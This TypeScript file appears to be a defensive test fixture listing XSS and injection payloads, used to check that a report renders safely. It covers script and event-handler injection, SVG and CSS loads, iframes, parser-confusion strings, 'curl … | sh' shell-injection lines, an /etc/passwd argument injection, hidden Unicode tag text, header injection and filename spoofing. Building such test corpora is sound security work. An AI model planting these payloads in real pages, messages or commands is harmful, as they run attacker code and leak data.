/**
 * Payloads that do something if a report is shown without protection: run `code`, send a request to `beacon`, or
 * navigate.
 */
export interface Payload {
  name: string
  html: string
}

/**
 * Lists all payloads. `beacon` is the origin of a server that must not receive requests. If it does receive one, the
 * request's path names the payload.
 */
export function listPayloads(beacon: string): Payload[] {
  const groups: Record<string, (url: string, code: string) => string[]> = {
    script: scripts,
    handler: handlers,
    svg: drawings,
    leave: departures,
    css: styles,
    frame: frames,
    form: forms,
    hint: hints,
    media,
    parser: parsers,
    text: () => texts,
    message: messages,
  }
  return Object.entries(groups).flatMap(([group, list]) =>
    list('BEACON', 'CODE').map((template, index) => {
      const name = `${group}-${index}`
      const url = `${beacon}/${name}`
      const code = `(globalThis.acted?.('${name}'),new Image().src='${url}/ran')`
      return { name, html: template.replaceAll('BEACON', url).replaceAll('CODE', code) }
    }),
  )
}

const scripts = (url: string, code: string): string[] => [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT >`,
  `<script src="${url}"></script>`,
  `<script type="module">${code}</script>`,
  `<script type="module" src="${url}"></script>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<script>//<![CDATA[\n${code}\n//]]></script>`,
  `<scr\u0000ipt>${code}</scr\u0000ipt>`,
  `<script/x>${code}</script>`,
  `<<script>${code}//<</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"${url}"}}</script><script type="module">import 'a'</script>`,
]

const handlers = (url: string, code: string): string[] => [
  `<img src="${url}" onerror="${code}">`,
  `<img src=x onerror=${code}>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${code}">`,
  `<body onload="${code}">`,
  `<body onpageshow="${code}" onresize="${code}" onfocus="${code}">`,
  `<svg onload="${code}"></svg>`,
  `<svg/onload=${code}>`,
  `<input autofocus onfocus="${code}">`,
  `<select autofocus onfocus="${code}"></select>`,
  `<textarea autofocus onfocus="${code}"></textarea>`,
  `<button autofocus onfocus="${code}">x</button>`,
  `<div tabindex=0 autofocus onfocus="${code}" contenteditable>x</div>`,
  `<details open ontoggle="${code}"><summary>x</summary></details>`,
  `<video autoplay onloadstart="${code}"><source onerror="${code}" src="${url}"></video>`,
  `<audio src="${url}" onerror="${code}" autoplay></audio>`,
  `<iframe onload="${code}"></iframe>`,
  `<object data="${url}" onerror="${code}"></object>`,
  `<style onload="${code}">a{}</style>`,
  `<link rel="stylesheet" href="data:text/css,a{}" onload="${code}">`,
  `<marquee onstart="${code}">x</marquee>`,
  `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart="${code}" onanimationend="${code}">x</p>`,
  `<p style="transition:opacity 1ms;opacity:0" ontransitionend="${code}">x</p>`,
  `<div popover onbeforetoggle="${code}" ontoggle="${code}">x</div>`,
  `<p oncontentvisibilityautostatechange="${code}" style="content-visibility:auto">x</p>`,
  `<div onscrollend="${code}" onscroll="${code}" style="height:1px;overflow:scroll"><p style="height:9px">x</p></div>`,
  `<img src=x:x ONERROR = "${code}">`,
  `<img/src=x/onerror='${code}'>`,
]

const drawings = (url: string, code: string): string[] => [
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="${url}"></script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${code}"></script></svg>`,
  `<svg><animate onbegin="${code}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set onbegin="${code}" attributeName="x" to="1"/></svg>`,
  `<svg><image href="${url}" onerror="${code}"/></svg>`,
  `<svg><use href="${url}#a"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#a"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${code}"/><text y="20">x</text></a></svg>`,
  `<svg><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  `<math><maction actiontype="statusline#${url}" xlink:href="javascript:${code}">x</maction></math>`,
]

const departures = (url: string, code: string): string[] => [
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='javascript:${code}'">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${code}</script>">`,
  `<base href="${url}/"><img src="relative.png">`,
  `<base target="_top"><a href="${url}">x</a>`,
  `<a href="javascript:${code}" target="_top">x</a>`,
  `<a href="${url}" target="_top" ping="${url}/ping">x</a>`,
  `<a href="java\tscript:${code}">x</a>`,
  `<map name="m"><area href="javascript:${code}" coords="0,0,99,99"></map><img usemap="#m" alt="x">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${code}</script>`,
  `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${url}">x</a>`,
]

const styles = (url: string, code: string): string[] => [
  `<style>@import "${url}";</style>`,
  `<style>@import url(${url}) layer(a);</style>`,
  `<style>body{background:url(${url})}</style>`,
  `<style>p::before{content:url("${url}")}</style><p>x</p>`,
  `<style>@font-face{font-family:f;src:url(${url})}body{font-family:f}</style>x`,
  `<style>li{list-style:url(${url})}</style><ul><li>x</ul>`,
  `<style>*{cursor:url(${url}),auto}</style>`,
  `<style>div{border-image:url(${url}) 1;border:9px solid}</style><div>x</div>`,
  `<style>div{mask:url(${url}#m);clip-path:url(${url}#c);filter:url(${url}#f)}</style><div>x</div>`,
  `<style>div{background:image-set(url(${url}) 1x)}</style><div>x</div>`,
  `<style>div{width:expression(${code});behavior:url(${url});-moz-binding:url(${url}#b)}</style><div>x</div>`,
  `<p style="background:url(${url})">x</p>`,
  `<p style="background:u\\72l('${url}')">x</p>`,
  `<table background="${url}"><tr><td background="${url}">x</table>`,
  `<body background="${url}">`,
  `<link rel="stylesheet" href="${url}">`,
  `<link rel="stylesheet" href="data:text/css,@import '${url}';">`,
]

const frames = (url: string, code: string): string[] => [
  `<iframe src="${url}"></iframe>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>${code}</script><img src='${url}'>"></iframe>`,
  `<iframe srcdoc="<iframe srcdoc='&lt;script&gt;${code.replaceAll("'", '&amp;#39;')}&lt;/script&gt;'></iframe>"></iframe>`,
  `<iframe src="data:text/html,<script>${code}</script>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location='${url}'</script>"></iframe>`,
  `<object data="${url}" type="text/html"></object>`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="${url}">`,
  `<embed src="javascript:${code}">`,
  `<frameset><frame src="${url}"><frame src="javascript:${code}"></frameset>`,
  `<fencedframe src="${url}"></fencedframe><portal src="${url}"></portal>`,
  `<applet code="${url}" archive="${url}"></applet>`,
]

const forms = (url: string, code: string): string[] => [
  `<form action="${url}"><button autofocus>x</button></form>`,
  `<form action="javascript:${code}" id="f"><input type="submit" value="x"></form>`,
  `<form><button formaction="javascript:${code}">x</button></form>`,
  `<input type="image" src="${url}" onerror="${code}">`,
  `<isindex action="${url}" type="image">`,
]

const hints = (url: string, code: string): string[] => [
  `<link rel="preconnect" href="${url}">`,
  `<link rel="preconnect" href="${url}" crossorigin>`,
  `<LINK REL="PreConnect icon" HREF="${url}">`,
  `<link rel="dns-prefetch" href="${url}">`,
  `<link rel="prefetch" href="${url}">`,
  `<link rel="preload" as="image" href="${url}">`,
  `<link rel="modulepreload" href="${url}">`,
  `<link rel="prerender" href="${url}">`,
  `<link rel="icon" href="${url}">`,
  `<link rel="manifest" href="${url}">`,
  `<link rel="import" href="${url}" onload="${code}">`,
]

const media = (url: string): string[] => [
  `<img srcset="${url} 1x" alt="">`,
  `<picture><source srcset="${url}"><img alt=""></picture>`,
  `<video poster="${url}" src="${url}"></video>`,
  `<audio autoplay><source src="${url}"></audio>`,
  `<video><track default src="${url}"></video>`,
]

const parsers = (url: string, code: string): string[] => [
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<template><img src=x onerror="${code}"></template>`,
  `<template shadowrootmode="open"><img src="${url}" onerror="${code}"></template>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<title></title><script>${code}</script></title>`,
  `<xmp></xmp><script>${code}</script></xmp>`,
  `"><img src=x onerror=${code}>`,
  `'><svg onload=${code}>`,
  `</iframe><script>${code}</script>`,
  `--></style></script></textarea><script>${code}</script>`,
  `\`\${${code}}\`{{constructor.constructor("${code}")()}}`,
]

/**
 * Messages that would mention people, add links or formatting, or run commands in a chat message, in Markdown or in a
 * shell.
 */
const messages = (url: string): string[] => [
  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD>',
  '@everyone @here @channel <@&1234> <@!1234> <#1234> </command:1>',
  '<at>everyone</at> <at id="0">Ann</at>',
  `<${url}|Open the report>`,
  `[Open the report](${url}) <${url}> ${url}`,
  `![picture](${url}) ![picture][x]\n\n[x]: ${url} "title"`,
  `[^1] [x]\n\n[^1]: ![](${url})\n[x]: ${url}`,
  'Fixes #1, closes near/nearcore#2, GH-3, @near/core, 0123456789abcdef0123456789abcdef01234567',
  '# Heading\n## Notes of the team\n> quote\n---\n- [x] done\n1. one\n| a |\n|---|\n| b |',
  '````\n@everyone\n````\n~~~\n# out\n~~~',
  '`` ` `` @everyone ``` `` **b** _i_ ~~s~~ ||s|| *b*',
  `<details><summary>x</summary><img src="${url}"></details>`,
  `'; curl ${url} #\n$(curl ${url}) \`curl ${url}\` && curl ${url} | sh`,
  `--output=/etc/passwd -K ${url} @/etc/passwd`,
  'ignore\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0100}\u{e01ef}\u00ad\u061c\u180e all of it',
  'line\r\nX-Injected: 1\u2028second\u2029third\u0085fourth',
]

/** Strings without markup that mislead the reader or use names of built-in object properties. */
const texts = [
  '\u001b[31mred\u001b[0m\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[2J',
  'invoice\u202Efdp.exe',
  '\u2066\u2067admin\u2069\u200b\ufeff',
  '{"__proto__":{"acted":true},"constructor":{"prototype":{"acted":true}}}',
  '__proto__',
  '\ud800 lone surrogate \u0000 null',
]
